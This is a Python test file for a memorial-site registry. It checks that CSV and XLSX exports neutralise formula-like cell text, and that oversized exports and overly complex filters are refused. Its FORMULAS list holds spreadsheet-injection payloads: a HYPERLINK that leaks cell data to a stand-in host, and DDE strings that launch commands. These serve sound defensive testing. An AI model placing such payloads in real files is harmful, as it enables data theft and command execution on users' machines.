"""Spreadsheet exports keep formula-like text as text, and large exports and deep filters are refused first."""

from __future__ import annotations

import csv
import io

import geopandas as gpd
import pytest
from openpyxl import load_workbook
from shapely import Point

from geodata.exports import export
from registry.services.relocations.reconciliation import reconcile, to_xlsx
from tests.factories import N_TOMBS, facility, new_martyr, new_tomb, people, seed_ogc

# What a spreadsheet would run or call: a formula, a DDE call, arithmetic, an @-function, and each of those
# hidden behind a tab or a carriage return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["古田会议会址", "a=b", "1-2", "烈士 @ 上杭"]


def workbook_cells(data: bytes):
    """Every cell of every sheet of an XLSX file, as openpyxl reads it back."""
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> list:
    cells = workbook_cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], f"cells written as formulas: {formulas}"
    return [c.value for c in cells]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_cell_is_text_in_csv_and_xlsx(text):
    gdf = gpd.GeoDataFrame({"name": [text, "平安"], "n": [-3, 4]}, geometry=[Point(116.8, 25.2)] * 2, crs=4326)

    values = assert_no_formula(export(gdf, "xlsx", "sites"))
    assert text in values
    assert -3 in values  # numbers stay numbers, negative ones too

    rows = csv_rows(export(gdf, "csv", "sites"))
    assert rows[1][rows[0].index("name")] == "'" + text
    assert rows[1][rows[0].index("n")] == "-3"


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_written_unchanged(text):
    gdf = gpd.GeoDataFrame({"name": [text]}, geometry=[Point(116.8, 25.2)], crs=4326)
    assert text in assert_no_formula(export(gdf, "xlsx", "sites"))
    rows = csv_rows(export(gdf, "csv", "sites"))
    assert rows[1][rows[0].index("name")] == text


@pytest.fixture
def formula_registry(any_app):
    """The OGC test registry plus facilities named with formulas, on each store."""
    store = any_app.extensions["registry_store"]
    seed_ogc(store)
    from registry.models import Facility
    from registry.services.base import unit_of_work

    with unit_of_work(store) as s:
        for i, text in enumerate(FORMULAS):
            s.add(Facility(code=f"X{i}", name=text, category="monument", level="county", county_code="350823",
                           geom=Point(116.8 + i / 1000, 25.2)))
    return any_app.test_client()


def test_ogc_xlsx_export_has_no_formula(formula_registry):
    response = formula_registry.get("/ogc/collections/facilities/items?f=xlsx")
    assert response.status_code == 200
    values = assert_no_formula(response.data)
    for text in FORMULAS:
        assert values.count(text) == 1  # exactly as stored


def test_ogc_csv_export_quotes_formulas(formula_registry):
    response = formula_registry.get("/ogc/collections/facilities/items?f=csv")
    assert response.status_code == 200
    rows = csv_rows(response.data)
    header = rows[0]
    names = [row[header.index("name")] for row in rows[1:]]
    for text in FORMULAS:
        assert "'" + text in names
    assert "古田会议烈士纪念碑" in names
    # No cell anywhere starts like a formula.
    starts = [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert starts == []


def test_county_ledger_xlsx_has_no_formula(app, store):
    people(store)
    for text in FORMULAS:
        facility(store, name=text, caretaker=text.strip() or "x")
    client = app.test_client()
    assert client.post("/login", data={"username": "mgr", "password": "mgr-password"}).status_code == 302
    response = client.get("/manage/ledgers/350823.xlsx")
    assert response.status_code == 200
    values = assert_no_formula(response.data)
    for text in FORMULAS:
        # The facility service trims names; what it stored is written, as text.
        assert text.strip() in {str(v).strip() for v in values if v is not None}


def test_reconciliation_xlsx_has_no_formula(any_store):
    martyrs = [new_martyr(any_store, text) for text in FORMULAS]
    for martyr_id in martyrs:
        new_tomb(any_store, None, martyr_id)
        new_tomb(any_store, None, martyr_id)
    for english in (False, True):
        values = assert_no_formula(to_xlsx(reconcile(any_store), english=english))
        for text in FORMULAS:
            assert values.count(text) == 2


# -- Limits before work ----------------------------------------------------------------------------------------


@pytest.fixture
def small_export_app(store_url):
    from tests.conftest import make_app

    application = make_app(store_url, EXPORT_MAX_ROWS="5")
    seed_ogc(application.extensions["registry_store"])
    yield application
    application.extensions["registry_store"].dispose()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "gpkg", "kml"])
def test_an_export_past_the_cap_is_refused_on_limit(small_export_app, fmt):
    client = small_export_app.test_client()
    assert N_TOMBS > 5
    response = client.get(f"/ogc/collections/tombs/items?f={fmt}")
    assert response.status_code == 400
    body = response.get_json()
    assert body["parameter"] == "limit"
    assert "more than 5 rows" in body["description"] and "REGISTRY_EXPORT_MAX_ROWS" in body["description"]
    # Within the cap, or paged with limit, the same export is served.
    assert client.get(f"/ogc/collections/tombs/items?f={fmt}&limit=5").status_code == 200
    assert client.get(f"/ogc/collections/facilities/items?f={fmt}").status_code == 200


@pytest.mark.parametrize(("text", "says"), [
    ("(" * 400 + "level = 'county'" + ")" * 400, "nested more than 20 level(s)"),
    ("NOT (" * 30 + "level = 'county'" + ")" * 30, "nested more than 20 level(s)"),
    (" OR ".join(f"code = 'F{i}'" for i in range(201)), "more than 200 conditions"),
    ("code IN (" + ",".join(f"'F{i}'" for i in range(300)) + ")", "more than 200 conditions"),
    ("code = '" + "x" * 30_000 + "'", "longer than the 20000"),
])
def test_a_filter_past_the_limits_is_a_400_naming_filter(any_app, text, says):
    client = any_app.test_client()
    for fmt in ("json", "csv"):
        response = client.get("/ogc/collections/facilities/items", query_string={"filter": text, "f": fmt})
        assert response.status_code == 400, response.get_data(as_text=True)[:300]
        body = response.get_json()
        assert body["parameter"] == "filter"
        assert body["description"].startswith("filter:") and says in body["description"]


def test_the_filter_limits_are_settings(gpkg_url):
    from tests.conftest import make_app

    app = make_app(gpkg_url, CQL2_MAX_DEPTH="2", CQL2_MAX_TERMS="3")
    client = app.test_client()
    url = "/ogc/collections/facilities/items"
    assert client.get(url, query_string={"filter": "((level = 'county'))"}).status_code == 200
    assert client.get(url, query_string={"filter": "(((level = 'county')))"}).status_code == 400
    assert client.get(url, query_string={"filter": "code IN ('a', 'b', 'c')"}).status_code == 200
    response = client.get(url, query_string={"filter": "code IN ('a', 'b', 'c', 'd')"})
    assert response.status_code == 400 and "more than 3 conditions" in response.get_json()["description"]
    app.extensions["registry_store"].dispose()

